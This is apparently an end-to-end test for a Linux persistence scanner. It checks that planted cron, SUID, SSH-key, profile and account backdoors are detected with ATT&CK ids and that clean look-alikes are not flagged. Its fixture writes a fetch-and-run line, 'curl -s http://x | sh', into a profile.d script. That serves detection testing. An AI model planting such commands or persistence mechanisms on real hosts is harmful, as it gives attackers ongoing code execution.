"""rasoat persist --root on a fixture root: every planted persistence
artefact (cron, at, systemd units, timers, user units, generators,
rc.local, init scripts, shell start-up files, motd, XDG autostart, udev,
APT hooks, ld.so.conf.d, git, PAM, sudoers, SSH keys, SUID, capabilities,
system accounts) is found with its ATT&CK id, and no clean look-alike is
reported at medium or above."""
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "fixtures", "deep"))
import deepfixture  # noqa: E402
from rasoat_e2e import Tree, check, done, findings, jsonl, run, summary  # noqa: E402

checks = 0


def ok(cond, message):
    global checks
    check(cond, message)
    checks += 1


if os.geteuid() != 0:
    print("test_persist_root: 0 passed, 0 failed, 1 skipped")  # file capabilities need root
    sys.exit(0)

SEV = {"info": 0, "low": 1, "medium": 2, "high": 3, "critical": 4}

with Tree() as t:
    deepfixture.build(t)
    code, out, err = run("scan", "--root", t.path, "--only", "persist", "--no-db", "--format", "jsonl",
                         "-q", "--fail-on", "none", "--recent", "0")
    ok(code == 0, f"exit {code}: {err}")
    lines = jsonl(out)
    fs = findings(lines)
    got = {(f["rule"], f["evidence"].get("path")): f for f in fs}
    persist_planted = {k: v for k, v in deepfixture.PLANTED.items() if k[0].startswith("rasoat:persist.")}
    ok(len(persist_planted) >= 15, "at least 15 planted persistence artefacts")
    for key, attack in persist_planted.items():
        f = got.get(key)
        ok(f is not None, f"planted {key} not found; found: {sorted(got)}")
        ok(attack in f["attack"], f"{key}: ATT&CK {f['attack']}, wanted {attack}")
        ok(SEV[f["severity"]] >= SEV["medium"], f"{key}: severity {f['severity']}")
        ok(f["remediation"], f"{key}: remediation")
    for key, f in got.items():
        if key not in deepfixture.PLANTED:
            ok(SEV[f["severity"]] < SEV["medium"], f"look-alike reported at {f['severity']}: {f['title']}")

    # the verdicts say why
    ok("downloads and runs" in got[("rasoat:persist.cron", "/etc/crontab")]["title"], "crontab verdict")
    ok(got[("rasoat:persist.cron", "/etc/crontab")]["evidence"]["line"] == 3, "crontab line")
    ok(got[("rasoat:persist.suid", "/tmp/.bash")]["severity"] == "critical", "SUID in /tmp is critical")
    ok("T1574.006" in got[("rasoat:persist.shell_startup", "/etc/profile.d/proxy.sh")]["attack"],
       "LD_PRELOAD in a profile names T1574.006 too")
    ok(got[("rasoat:persist.ssh_authorized_key", "/root/.ssh/authorized_keys")]["evidence"]["line"] == 2,
       "the forced-command key, not the plain one")
    ok(got[("rasoat:persist.system_account_shell", "/etc/passwd")]["evidence"]["user"] == "sshd2", "sshd2")
    ok(("rasoat:persist.cron", "/etc/cron.daily/logrotate") not in got, "find /tmp as an argument is clean")
    ok(("rasoat:persist.init_script", "/etc/init.d/ssh") not in got, "TMPDIR=\"/tmp/..\" is clean")
    ok(("rasoat:persist.shell_startup", "/home/bob/.bashrc") not in got, "bob's PATH and mkdir are clean")
    ok(("rasoat:persist.suid", "/usr/bin/passwd") not in got, "packaged SUID is clean")
    ok(("rasoat:persist.file_capabilities", "/usr/bin/ping") not in got, "packaged capabilities are clean")
    ok(("rasoat:persist.sudoers", "/etc/sudoers.d/deploy") not in got, "a narrow NOPASSWD rule is clean")

    # clean entries only with --all, as passed checks
    ok(not any(l["type"] == "check" for l in lines), "no check lines without --all")
    code, out, _ = run("scan", "--root", t.path, "--only", "persist", "--no-db", "--format", "jsonl",
                       "-q", "--fail-on", "none", "--recent", "0", "--all")
    passed = [l for l in jsonl(out) if l["type"] == "check" and l["result"] == "passed"]
    ok(any("/usr/lib/systemd/system/ssh.service" in l["title"] for l in passed), "ssh.service passed with --all")
    ok(any("/usr/bin/passwd" in l["title"] for l in passed), "passwd SUID passed with --all")

    # recent changes are noted, at low
    code, out, _ = run("scan", "--root", t.path, "--only", "persist", "--no-db", "--format", "jsonl",
                       "-q", "--fail-on", "none", "--recent", "3")
    fs = findings(jsonl(out))
    myapp = [f for f in fs if f["evidence"].get("path") == "/etc/systemd/system/myapp.service"]
    ok(myapp and "changed within" in myapp[0]["title"] and myapp[0]["severity"] == "low",
       f"recent unit noted at low: {myapp}")
    s = summary(jsonl(out))
    ok(s["modules"]["persist"]["entries"] >= 40, f"inventory size {s['modules']['persist']}")

# The SUID walk is split over threads by directory (trees and three levels
# below them, then whole subtrees): a SUID file at every depth is found,
# once, in path order, whatever the threads do; excluded trees, symlinked
# directories and --one-file-system's other devices are left alone.
with Tree() as t:
    deep = ["opt/s0", "opt/a/s1", "opt/a/b/s2", "opt/a/b/c/s3", "opt/a/b/c/d/s4", "opt/a/b/c/d/e/f/g/s7",
            "usr/lib/x/y/z/w/s5", "var/tmp/.cache/k/s4b", "home/bob/.local/bin/s3b"]
    for rel in deep:
        t.write(rel, b"\x7fELF\x00", mode=0o4755)
    for n in range(40):  # many small units, so that every thread gets some
        t.write(f"usr/share/pkg{n}/sub/file", b"data")
    t.write("opt/skipme/deep/s9", b"\x7fELF\x00", mode=0o4755)
    t.mkdir("srv/real")
    t.write("srv/real/s10", b"\x7fELF\x00", mode=0o4755)
    t.symlink("srv/link", "real")
    # a package database, so that unowned SUID files are findings anywhere
    t.write("var/lib/dpkg/status", "Package: base\nStatus: install ok installed\nVersion: 1\n"
            "Architecture: amd64\n\n")
    t.write("var/lib/dpkg/info/base.list", "/usr/share/pkg0/sub/file\n")
    for threads in ("1", "2", "5"):
        code, out, err = run("scan", "--root", t.path, "--only", "persist", "--no-db", "--format", "jsonl",
                             "-q", "--fail-on", "none", "--recent", "0", "--threads", threads,
                             "--exclude", "/opt/skipme")
        ok(code == 0, f"exit {code}: {err}")
        paths = [f["evidence"]["path"] for f in findings(jsonl(out)) if f["rule"] == "rasoat:persist.suid"]
        want = sorted(["/" + r for r in deep] + ["/srv/real/s10"])
        ok(paths == want, f"--threads {threads}: SUID files {paths}, wanted {want}")
        s = summary(jsonl(out))
        ok(s["modules"]["persist"]["files"] >= len(deep) + 40, f"files counted: {s['modules']['persist']}")

# A file a maintainer script copied into place (base-files copies
# /usr/share/base-files/profile to /etc/profile): no package lists the copy,
# but a package ships the same bytes, so it is not "not owned by any
# package". An edited copy and an unrelated file still are.
import hashlib  # noqa: E402
with Tree() as t:
    shipped = b"# /etc/profile: system-wide .profile file for the Bourne shell\nPATH=/usr/bin:/bin\n"
    t.write("usr/share/base-files/profile", shipped)
    t.write("usr/share/base-files/dot.bashrc", b"# ~/.bashrc\n")
    t.write("etc/profile", shipped)
    t.write("etc/profile.d/edited.sh", shipped + b"curl -s http://x | sh\n")
    t.write("etc/profile.d/extra.sh", b"export A=1\n")
    t.write("var/lib/dpkg/status", "Package: base-files\nStatus: install ok installed\nVersion: 12.4\n"
            "Architecture: amd64\n\n")
    t.write("var/lib/dpkg/info/base-files.list", "/usr/share/base-files/profile\n/usr/share/base-files/dot.bashrc\n")
    t.write("var/lib/dpkg/info/base-files.md5sums",
            f"{hashlib.md5(shipped).hexdigest()}  usr/share/base-files/profile\n"
            f"{hashlib.md5(b'# ~/.bashrc').hexdigest()}  usr/share/base-files/dot.bashrc\n")
    code, out, err = run("scan", "--root", t.path, "--only", "persist", "--no-db", "--format", "jsonl",
                         "-q", "--fail-on", "none", "--recent", "0", "--all")
    ok(code == 0, f"exit {code}: {err}")
    lines = jsonl(out)
    unowned = sorted(f["evidence"]["path"] for f in findings(lines) if "not owned" in f["evidence"].get("verdict", ""))
    ok(unowned == ["/etc/profile.d/edited.sh", "/etc/profile.d/extra.sh"],
       f"only the files no package ships are unowned: {unowned}")
    prof = [c for c in lines if c.get("type") == "check" and c.get("title", "").endswith("/etc/profile")]
    ok(len(prof) == 1 and prof[0]["result"] == "passed", f"/etc/profile is the package's copy: {prof}")

done("test_persist_root", checks)
